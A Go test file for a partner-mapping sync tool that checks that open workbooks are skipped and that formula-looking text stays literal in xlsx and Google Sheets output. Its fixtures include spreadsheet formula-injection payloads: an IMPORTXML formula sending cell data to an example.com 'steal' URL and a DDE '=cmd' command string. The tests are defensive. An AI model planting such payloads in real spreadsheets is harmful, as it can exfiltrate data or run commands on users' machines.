package main

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/partnermap/partnermap/config"
	"github.com/partnermap/partnermap/demo"
	"github.com/partnermap/partnermap/scoring"
	"github.com/partnermap/partnermap/sheets"
	"github.com/partnermap/partnermap/sheets/google/fake"
	"github.com/partnermap/partnermap/sheets/xlsx"
)

// logLines parses the JSON log lines of stderr.
func logLines(t *testing.T, stderr string) []map[string]any {
	t.Helper()
	var out []map[string]any
	for _, line := range strings.Split(stderr, "\n") {
		if !strings.HasPrefix(line, "{") {
			continue
		}
		var m map[string]any
		if err := json.Unmarshal([]byte(line), &m); err != nil {
			t.Fatalf("log line is not JSON: %q", line)
		}
		out = append(out, m)
	}
	return out
}

func TestAnOpenWorkbookIsSkippedWithALogLineSayingItWillBeTriedAgain(t *testing.T) {
	for _, lock := range []string{"~$messy.xlsx", ".~lock.messy.xlsx#"} {
		t.Run(lock, func(t *testing.T) {
			path := copyFixture(t, "messy.xlsx")
			if err := os.WriteFile(filepath.Join(filepath.Dir(path), lock), []byte("Ana,ana-laptop"), 0o644); err != nil {
				t.Fatal(err)
			}
			before, _ := os.ReadFile(path)
			code, stdout, stderr := partnermap(t, "sync", "--now", "--as-of", "2026-11-23", "--xlsx", path)
			if code != exitFailed {
				t.Fatalf("exit %d, want %d (not done)\nstdout: %s\nstderr: %s", code, exitFailed, stdout, stderr)
			}
			var skip map[string]any
			for _, l := range logLines(t, stderr) {
				if msg, _ := l["message"].(string); strings.HasPrefix(msg, "sync skipped") {
					skip = l
				}
			}
			if skip == nil {
				t.Fatalf("no \"sync skipped\" log line:\n%s", stderr)
			}
			msg, _ := skip["message"].(string)
			reason, _ := skip["error"].(string)
			if skip["level"] != "warn" || !strings.Contains(msg, "tries again") || !strings.Contains(msg, "nothing written") ||
				!strings.Contains(reason, lock) {
				t.Errorf("the log line should be a warning saying nothing was written, that it will be tried again, "+
					"and which lock file: %v", skip)
			}
			if !strings.Contains(stderr, "skipped") || strings.Contains(stderr, "sync failed") {
				t.Errorf("a skipped sync must not be reported as failed:\n%s", stderr)
			}
			if after, _ := os.ReadFile(path); !bytes.Equal(before, after) {
				t.Error("the open workbook was written")
			}
		})
	}
}

// formulaNames are partner names a spreadsheet program would run as formulas if they were
// written as typed rather than as literal text.
var formulaNames = []string{
	`=IMPORTXML("https://example.com/steal?d="&A1,"//a")`,
	`=HYPERLINK("https://example.com","click")`,
	`+1 555 0100`,
	`-Westside Renters`,
	`@SUM(1,2)`,
}

// formulaWorkbook is the demo coalition with partners named like formulas, a meeting with
// one of them, and an introduction that looks like a formula (a New lead).
func formulaWorkbook() []sheets.InputTab {
	day := demo.Day(scoring.DateOf(2026, 11, 23))
	tabs := demo.Workbook(config.Default().Tabs, day)
	for _, name := range formulaNames {
		tabs[0].Rows = append(tabs[0].Rows, []sheets.Cell{sheets.TextCell(name), sheets.TextCell("Organization"),
			sheets.TextCell("Maria Lopez"), sheets.TextCell("Supports"), sheets.IntCell(4)})
	}
	tabs[2].Rows = append(tabs[2].Rows, []sheets.Cell{sheets.DateCell(scoring.DateOf(2026, 11, 1).Time()), sheets.TextCell(formulaNames[0]),
		sheets.TextCell("Maria Lopez"), sheets.TextCell("1-1"), {}, {}, {}, sheets.TextCell("=cmd|' /C calc'!A0"), sheets.TextCell("Pending"),
		sheets.TextCell(`=WEBSERVICE("https://example.com")`), sheets.TextCell(`=1+1`)})
	return tabs
}

// checkLiteral fails unless every formula-looking name is in Priorities as text.
func checkLiteral(t *testing.T, backend string, priorities [][]sheets.Cell) {
	t.Helper()
	var names []string
	for _, row := range priorities {
		for _, c := range row {
			if c.Kind == sheets.Text {
				names = append(names, c.Text)
			}
		}
	}
	for _, want := range formulaNames {
		if !slices.Contains(names, want) {
			t.Errorf("%s: Priorities lacks %q as text", backend, want)
		}
	}
}

func TestFormulaLookingTextStaysTextInEveryOutputAndBackend(t *testing.T) {
	t.Run("xlsx", func(t *testing.T) {
		path := filepath.Join(t.TempDir(), "chapter.xlsx")
		if _, err := xlsx.New(path, xlsx.DefaultOptions()).AddInputTabs(context.Background(), formulaWorkbook()); err != nil {
			t.Fatal(err)
		}
		if code, stdout, stderr := partnermap(t, "sync", "--now", "--as-of", "2026-11-23", "--xlsx", path); code != exitOK {
			t.Fatalf("exit %d\n%s\n%s", code, stdout, stderr)
		}
		f, err := excelize.OpenFile(path)
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		cells := 0
		for _, name := range outputTabs {
			rows, err := f.GetRows(name)
			if err != nil {
				t.Fatal(err)
			}
			for r, row := range rows {
				for c := range row {
					ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
					if fo, _ := f.GetCellFormula(name, ref); fo != "" {
						t.Errorf("%s!%s holds the formula %q", name, ref, fo)
					}
					cells++
				}
			}
		}
		if cells < 100 {
			t.Fatalf("only %d output cells checked", cells)
		}
		checkLiteral(t, "xlsx", readTabs(t, path, []string{"Priorities"})["Priorities"].Rows)
	})
	t.Run("Google Sheets", func(t *testing.T) {
		srv := fake.New()
		defer srv.Close()
		srv.AddSpreadsheet("chapter-1", "America/Chicago")
		srv.AddInputTabs("chapter-1", formulaWorkbook())
		code, stdout, stderr := partnermap(t, "sync", "--now", "--as-of", "2026-11-23",
			"--spreadsheet-id", "chapter-1", "--set", "source.endpoint="+srv.URL())
		if code != exitOK {
			t.Fatalf("exit %d\n%s\n%s", code, stdout, stderr)
		}
		cells := 0
		for _, name := range outputTabs {
			sh, ok := srv.Sheet("chapter-1", name)
			if !ok {
				t.Fatalf("no tab %s", name)
			}
			for _, gd := range sh.Data {
				for r, rd := range gd.RowData {
					for c, d := range rd.Values {
						if d.UserEnteredValue != nil && d.UserEnteredValue.FormulaValue != nil {
							t.Errorf("%s row %d col %d holds the formula %q", name, r+1, c+1, *d.UserEnteredValue.FormulaValue)
						}
						cells++
					}
				}
			}
		}
		if cells < 100 {
			t.Fatalf("only %d output cells checked", cells)
		}
		rows, _ := srv.Cells("chapter-1", "Priorities")
		checkLiteral(t, "Google Sheets", rows)
	})
}
